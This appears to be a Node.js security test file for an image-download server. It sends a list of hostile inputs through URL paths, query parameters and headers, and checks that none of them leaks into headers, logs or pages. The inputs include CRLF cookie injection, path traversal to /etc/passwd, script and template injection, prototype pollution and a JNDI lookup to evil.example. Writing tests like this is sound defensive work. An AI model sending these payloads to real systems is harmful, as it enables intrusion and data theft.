import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import { type Answer, problemOf, requestHead, sharedServer, speak } from './samples.ts';

/** Texts that would end a line, a header or a path, or control a terminal. */
const HOSTILE = [
  'busybox%0d%0aSet-Cookie:%20a=b',
  'busybox%0aSet-Cookie:%20a=b',
  'busybox%0d',
  'busybox%00',
  'busybox%e2%80%a8',
  'busybox%c2%85',
  'bu%1b%5b31msybox',
  'busybox:%0d%0a%0d%0a<script>alert(1)</script>',
  'busybox%22;%20filename=%22evil.exe',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e/%2e%2e/etc/passwd',
  '..%5c..%5cwindows',
  '/etc/passwd',
  '%2fetc%2fpasswd',
  'a/../../b',
  'a/./b',
  'a//b',
  '~root',
  '-rf',
  'a:-rf',
  'con%0a',
  'a@sha256:..%2f..%2f',
  'xn--%00/a',
  'ghcr.io%0d%0a/a',
  'ghcr.io%2f..%2fa',
  '%5b::1%25eth0%5d/a',
  'user:pass@ghcr.io/a',
  '__proto__',
  'constructor/prototype',
  '%f0%9f%92%a9',
  '%ef%bc%8e%ef%bc%8e/a',
  '{{7*7}}',
  '$%7bjndi:ldap://evil.example/a%7d',
];

function assertHarmless({ head, status }: Answer): void {
  assert.match(
    head,
    /^HTTP\/1\.1 \d{3} [\x20-\x7e]*(?:\r\n[!-9;-~]+: [\x20-\x7e]*)*$/,
    'the head is one head',
  );
  assert.doesNotMatch(head, /^set-cookie/im);
  assert.ok(status === 200 || (status >= 400 && status < 500), head);
}

suite('a hostile reference', { timeout: 600_000 }, () => {
  for (const image of HOSTILE) {
    test(`${image} reaches neither headers nor the log nor another path`, async () => {
      await using server = await sharedServer();
      for (const path of [`/dl?myimage=${image}`, `/dl/${image}.tar`, `/dl/status?myimage=${image}`]) {
        const answer = await server.get(path);
        assertHarmless(answer);
        assert.doesNotMatch(answer.body.toString(), /root:/);
        if (answer.status === 200) continue;
        assert.doesNotMatch(problemOf(answer).detail, /[^\x20-\x7e]/);
        const page = await server.get(path, { accept: 'text/html' });
        assertHarmless(page);
        assert.doesNotMatch(page.body.toString(), /<script(?! src="\/assets\/)|[^\n\x20-\x7e]/);
      }
      for (const { msg } of server.log) assert.doesNotMatch(msg, /[^\x20-\x7e]/);
    });
  }

  test('in other parameters is as harmless', async () => {
    await using server = await sharedServer();
    // This is a valid name for a platform.
    for (const value of HOSTILE.filter((text) => text !== 'constructor/prototype')) {
      for (const query of [
        `platform=${value}`,
        `format=${value}`,
        `stream=${value}`,
        `${value}=1`,
        `__proto__=${value}`,
      ]) {
        const answer = await server.get(`/dl?myimage=busybox&${query}`);
        assertHarmless(answer);
        assert.equal(answer.status, 400, query);
      }
    }
    assert.deepEqual(server.requests, []);
  });

  test('in headers, as bytes that the parser accepts, is harmless', async () => {
    await using server = await sharedServer();
    const bytes = '\x9b31m\xff\x85';
    for (const name of [
      'range',
      'if-range',
      'if-match',
      'if-none-match',
      'accept',
      'user-agent',
      'x-forwarded-for',
      'host',
    ]) {
      const answer = await speak(server.port, requestHead('GET', '/dl?myimage=busybox', { [name]: bytes }));
      assertHarmless(answer);
    }
  });
});
